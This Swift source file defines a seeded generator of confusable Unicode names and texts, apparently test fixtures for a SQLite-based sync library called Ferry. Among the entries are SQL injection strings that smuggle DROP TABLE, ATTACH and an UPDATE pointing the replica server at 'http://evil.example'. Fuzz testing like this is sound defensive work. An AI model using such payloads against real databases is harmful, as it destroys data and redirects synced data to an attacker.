/// Easily confused names and texts: lookalikes, quotes, SQL, letters of both cases within ASCII and
/// without, and the limits of length. Equal seeds give equal samples.
public struct NameSamples: Sendable {
  private var state: UInt64

  public init(seed: UInt64) { state = seed &* 0x9E37_79B9_7F4A_7C15 &+ 1 }

  /// The parts of names.
  public static let parts = [
    "a", "A", "k", "K", "\u{212A}", "i", "I", "\u{130}", "\u{131}", "\u{DF}", "\u{1E9E}",
    "\u{E9}", "e\u{301}", "\u{C5}", "\u{212B}", "\u{301}", "\u{323}\u{307}", "\u{307}\u{323}",
    "\u{200D}", "\u{1F469}\u{200D}\u{1F680}", "\"", "\"\"", "\"\u{301}", "'", "'\u{301}", "`", "[",
    "]", "--", ";", "\u{37E}", "\\", "$1", "?1", ":a", "@a", "%", "_", " ", ".", "/*", "*/", "+",
    "~",
    "#", "{}", "\u{FEFF}", "\u{10FFFF}", "\u{AC00}", "\u{1100}\u{1161}",
    // Marks forming one `Character` with the quote behind them, and neighbours of the surrogates.
    "\u{600}", "\u{600}\"", "\u{600}'", "\u{6DD}", "\u{110BD}\"", "\u{8E2};", "\u{D7FF}",
    "\u{E000}",
    "$$", "$a$", "\u{FE0F}", "\u{1F1E9}",
  ]

  /// Whole names.
  public static let words = [
    "select", "SELECT", "rowid", "oid", "_rowid_", "ROWID", "id", "ID", "key", "order", "table",
    "null", "true", "old", "new", "excluded", "main", "temp", "main.t", "ferry", "ferrytales",
    "x\"\u{301});UPDATE ferry_replica SET server='http://evil.example';--",
    "x'\u{301});DROP TABLE ferry_pending;--",
    "\u{600}\" (a int);DROP TABLE canary;--", "\u{600}');DROP TABLE canary;--",
    "\u{600}');ATTACH \"canary\" AS c;--", "\\'); DROP TABLE canary;--", "$$;DROP TABLE canary;--",
    "S\u{212A}U", "SKU", "sku",
    String(repeating: "x", count: 128), String(repeating: "\u{E9}", count: 64),
    String(repeating: "\"", count: 128), String(repeating: "\u{301}", count: 64),
  ]

  /// Names forbidden for tables and columns.
  public static let forbidden = [
    "", "\u{0}", "a\u{0}b", "\n", "a\u{7F}", "\u{1B}[2J", String(repeating: "x", count: 129),
    String(repeating: "\u{E9}", count: 64) + "x",
  ]

  /// Names of Ferry's and SQLite's own tables.
  public static let reserved = [
    "ferry_x", "Ferry_x", "fERRY_\u{301}", "sqlite_x", "SQLite_\u{200D}", "sQlItE_",
    "FERRY_pending",
  ]

  /// Values as texts, also with U+0000.
  public static let texts = parts + words + ["", "a\u{0}b", "\u{0}", "\u{0}\u{301}", "\r\n"]

  /// Returns a number below `bound`.
  public mutating func below(_ bound: Int) -> Int {
    state &+= 0x9E37_79B9_7F4A_7C15
    var mixed = state
    mixed = (mixed ^ (mixed >> 30)) &* 0xBF58_476D_1CE4_E5B9
    mixed = (mixed ^ (mixed >> 27)) &* 0x94D0_49BB_1331_11EB
    mixed ^= mixed >> 31
    return Int(mixed % UInt64(bound))
  }

  public mutating func name() -> String {
    if below(3) == 0 { return Self.words[below(Self.words.count)] }
    var name = ""
    for _ in 0...below(3) { name += Self.parts[below(Self.parts.count)] }
    return name
  }

  public mutating func text() -> String { Self.texts[below(Self.texts.count)] }
}
